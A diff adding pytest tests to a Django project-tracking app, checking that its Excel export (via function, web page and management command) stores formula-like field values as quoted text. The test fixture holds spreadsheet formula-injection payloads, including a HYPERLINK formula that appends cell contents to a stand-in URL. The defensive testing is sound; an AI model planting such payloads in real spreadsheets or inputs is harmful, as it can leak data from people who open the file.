@@ -184,3 +184,84 @@ class TestExportProjects:
             stdout=io.StringIO(),
         )
         assert [row[0] for row in sheet_rows(path.read_bytes())[1:]] == ["保密线索"]
+
+
+HOSTILE_NAME = '=HYPERLINK("http://x"&A1,"click")'
+HOSTILE_SECTOR = "=1+1"
+
+
+@pytest.fixture
+def hostile(users: dict[str, User], today: date) -> Project:
+    """A signed project whose name and sector a spreadsheet would read as formulas."""
+    return services.create_project(
+        users["jinniu"],
+        name=HOSTILE_NAME,
+        region_id="510106",
+        sector=HOSTILE_SECTOR,
+        responsible_leader="@SUM(1+1)",
+        task_force="-2+3",
+        mechanism="\t=1",
+        stage="signed",
+        stage_date=today,
+    )
+
+
+def hostile_cells(data: bytes) -> dict[str, Any]:
+    """The hostile project's cells by header, as openpyxl reads them back (type included)."""
+    sheet = load_workbook(io.BytesIO(data))["项目"]
+    header = [cell.value for cell in sheet[1]]
+    [row] = [row for row in sheet.iter_rows(min_row=2) if row[0].value == HOSTILE_NAME]
+    return dict(zip(header, row, strict=True))
+
+
+class TestFormulaInjection:
+    def assert_text(self, data: bytes) -> None:
+        cells = hostile_cells(data)
+        expected = {
+            "项目名称": HOSTILE_NAME,
+            "产业领域": HOSTILE_SECTOR,
+            "责任领导": "@SUM(1+1)",
+            "工作专班": "-2+3",
+            "推进机制": "\t=1",
+        }
+        for header, value in expected.items():
+            assert cells[header].data_type == "s", header
+            assert cells[header].value == value
+            assert cells[header].quotePrefix, header
+
+    def test_export_function_writes_formula_like_text_as_text(
+        self, users: dict[str, User], hostile: Project
+    ) -> None:
+        self.assert_text(export_projects(users["jinniu"], ProjectFilters()))
+
+    def test_another_organisation_that_sees_the_project_gets_text(
+        self, users: dict[str, User], hostile: Project
+    ) -> None:
+        self.assert_text(export_projects(users["city"], ProjectFilters()))
+
+    def test_page_export_writes_text(self, users: dict[str, User], hostile: Project) -> None:
+        from django.test import Client
+        from django.urls import reverse
+
+        client = Client()
+        client.force_login(users["city"])
+        response = client.get(reverse("projects:export"))
+        assert response.status_code == 200
+        self.assert_text(response.content)
+
+    def test_command_export_writes_text(
+        self, users: dict[str, User], hostile: Project, tmp_path: Path
+    ) -> None:
+        path = tmp_path / "out.xlsx"
+        call_command(
+            "export", "projects", str(path), "--as", "jinniu_officer", stdout=io.StringIO()
+        )
+        self.assert_text(path.read_bytes())
+
+    def test_filter_text_in_the_notes_sheet_is_text(
+        self, users: dict[str, User], hostile: Project
+    ) -> None:
+        data = export_projects(users["jinniu"], ProjectFilters(sector=HOSTILE_SECTOR))
+        notes = load_workbook(io.BytesIO(data))["说明"]
+        [value] = [row[1] for row in notes.iter_rows() if row[0].value == "产业领域"]
+        assert value.data_type == "s" and value.value == HOSTILE_SECTOR
